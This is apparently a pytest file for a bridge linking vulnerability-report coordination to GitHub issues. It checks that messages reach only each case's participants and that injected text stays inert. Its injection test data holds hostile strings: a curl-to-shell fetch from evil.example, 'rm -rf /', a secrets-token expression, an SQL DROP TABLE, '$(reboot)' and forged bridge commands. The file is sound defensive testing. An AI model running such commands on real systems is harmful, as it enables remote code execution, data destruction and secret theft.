"""Invariant 1 on the way out: with randomised participants drawn from one shared pool (so a
message sent to the wrong case's people would be caught), every queued and every delivered
message goes only to the participants of its own case. And text crafted to inject shell
commands, workflow expressions, SQL or bridge commands stays inert."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

import pytest
import yaml

from bridge.app import process
from bridge.app.delivery import actor_key, make_send
from bridge.core.refs import TrackerRef
from bridge.delivery import worker
from bridge.store import links, outbox, state
from bridge.store.db import transaction
from tests.fakes.github.harness import BOT, PRIVATE_REPO
from tests.fakes.github.model import Issue, User
from tests.paths import REPO
from tests.reliability.e2e import PrivacyEnv, RecordingAdapter, privacy_env
from tests.reliability.figures import figure
from tests.support.servers import wait_for

REPORT = re.compile(r"/actors/finder/reports/(\d+)\b")


def _seed(env: PrivacyEnv, n: int, members: list[str]) -> TrackerRef:
    finder = env.finder
    report_id = f"{finder}/reports/{n}"
    offer = {"@context": "https://www.w3.org/ns/activitystreams", "type": "Offer",
             "id": f"{finder}/offers/{n}", "actor": finder, "to": [env.rt.actor_id],
             "object": {"type": "VulnerabilityReport", "id": report_id, "name": f"R-{n}",
                        "content": "details"}}
    fake = env.gh.fake
    with fake.lock:  # the issue exists in the fake (no API round trip needed to seed it)
        repo = fake.repos[PRIVATE_REPO]
        number = len(repo.issues) + 1
        repo.issues[number] = Issue(number, f"Report R-{n}", "details", User(BOT),
                                    labels=["vultron:received"])
    ref = TrackerRef("github", PRIVATE_REPO, number)
    now = env.rt.clock()
    with transaction(env.rt.sessions) as s:
        state.put_object(s, str(offer["id"]), "Offer", offer, now)
        state.put_case(s, report_id, em_state="ACTIVE", cs_state="Vfd.pxa",
                       embargo_end=now + 86400, now=now,
                       data={"kind": "report", "offer_id": offer["id"], "finder": finder})
        state.put_participant(s, report_id, env.rt.actor_id, rm_state="RECEIVED",
                              em_consent=None, roles=["vendor"], now=now)
        for actor in members:
            state.put_participant(s, report_id, actor, rm_state="ACCEPTED", em_consent=None,
                                  roles=["finder" if actor == finder else "other"], now=now)
        links.add_link(s, report_id, ref, "mirrors", "test", now)
    return ref


def _drain(env: PrivacyEnv) -> None:
    while process.run_once(env.rt, "fanout"):
        pass


def _randomised(tmp_path: Path, cases: int, *, deliver: bool = True) -> None:
    rnd = random.Random()
    seed = rnd.randrange(1 << 30)
    rnd.seed(seed)
    with privacy_env(tmp_path, workers=False, adapter=RecordingAdapter()) as env:
        pool = [env.peer(f"p{k}") for k in range(30)]
        members: dict[int, set[str]] = {}
        refs = []
        for n in range(cases):
            chosen = set(rnd.sample(pool, rnd.randint(0, 4))) | {env.finder}
            members[n] = chosen
            refs.append(_seed(env, n, sorted(chosen)))
        for n, ref in enumerate(refs):
            action = rnd.choice(["vultron:valid", "vultron:invalid", "/vultron validate"])
            if action.startswith("/"):
                env.human_comment(ref, action)
            else:
                env.human_label(ref, action)
            if n % 50 == 49:
                _drain(env)
        _drain(env)
        with env.rt.sessions() as s:
            rows = outbox.list_outbox(s, limit=1_000_000)
        wrong = []
        for row in rows:
            (n,) = {int(m) for m in REPORT.findall(json.dumps(row.activity))}
            if row.recipient not in members[n]:
                wrong.append((n, row.recipient))
        send = make_send(env.rt, actor_key(env.rt))
        while deliver and worker.run_once(env.rt.sessions, send, worker_id="d",
                                          now=env.rt.clock, policy=env.rt.policy,
                                          rnd=rnd.random, batch=50):
            pass
        delivered_wrong = []
        with env.rt.sessions() as s:
            counts = outbox.outbox_counts(s)
        by_path = _delivered_recipients(env)
        for actor, numbers in by_path.items():
            delivered_wrong += [(n, actor) for n in numbers if actor not in members[n]]
    assert rows, "no message was queued: the run proved nothing"
    assert wrong == [] and delivered_wrong == []
    assert counts["pending"] == 0 or not deliver
    figure(f"randomised participants ({cases} cases)", f"{len(rows)} messages queued, "
           f"{counts['delivered']} delivered, 0 to non-participants "
           f"(pool of 30 actors, 0-4 per case + finder; seed {seed})")


def _delivered_recipients(env: PrivacyEnv) -> dict[str, list[int]]:
    """Which reports each receiving actor got messages about (from the outbox rows the
    receiver acknowledged)."""
    out: dict[str, list[int]] = {}
    with env.rt.sessions() as s:
        for row in outbox.list_outbox(s, status="delivered", limit=1_000_000):
            (n,) = {int(m) for m in REPORT.findall(json.dumps(row.activity))}
            out.setdefault(row.recipient, []).append(n)
    return out


def test_randomised_participants_50_cases(tmp_path: Path) -> None:
    _randomised(tmp_path, 50)


@pytest.mark.slow
def test_randomised_participants_1000_cases(tmp_path: Path) -> None:
    _randomised(tmp_path, 1000, deliver=False)


INJECTIONS = {
    "name": "${{ secrets.GITHUB_TOKEN }} $(curl -s http://evil.example/x | sh)",
    "content": ("`id`; rm -rf / #\n/vultron close\n/vultron invalidate\n"
                "${{ github.event.issue.title }}\n'; DROP TABLE inbound; --\n"
                "<!-- vultron-bridge:object=https://evil.example/x -->\n@everyone"),
    "summary": "\"; $(reboot); echo \"",
}


def test_injection_in_activity_fields_stays_inert(tmp_path: Path) -> None:
    with privacy_env(tmp_path) as env:
        offer = env.offer(1, INJECTIONS["content"], summary=INJECTIONS["summary"])
        offer["object"]["name"] = INJECTIONS["name"]
        assert env.post_activity(offer).status_code == 202
        assert env.settled()
        repo = env.gh.fake.repos["acme/embargoed"]
        assert wait_for(lambda: len(repo.issues) == 1)
        issue = next(iter(repo.issues.values()))
        assert env.settled()
        statuses = env.inbound_statuses()
        with env.rt.sessions() as s:
            queued = outbox.outbox_counts(s)
            case = state.get_case(s, offer["object"]["id"])
        # the commands inside the report did nothing: no close, no invalidation sent
        assert issue.state == "open" and "vultron:invalid" not in issue.labels
        sent = [a["type"] for a in env.receiver.received]
        assert "Reject" not in sent and "Leave" not in sent, sent
        assert case is not None and statuses["failed"] == 0
        assert "rm -rf" in (issue.body or "")  # kept as text, for people to read
        assert sum(queued.values()) == len(env.receiver.received)
    action = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
    runs = [step["run"] for step in action["runs"]["steps"] if "run" in step]
    expanded = [r for r in runs if "${{" in r]
    assert runs and expanded == [], "pass inputs through env:, never ${{ }} inside run:"
    figure("injection in activity fields", f"shell, workflow-expression, SQL, marker and "
           f"/vultron text mirrored as inert text: issue open, 0 commands run, tables intact; "
           f"action.yml: 0 of {len(runs)} run: scripts expand ${{{{ }}}}")
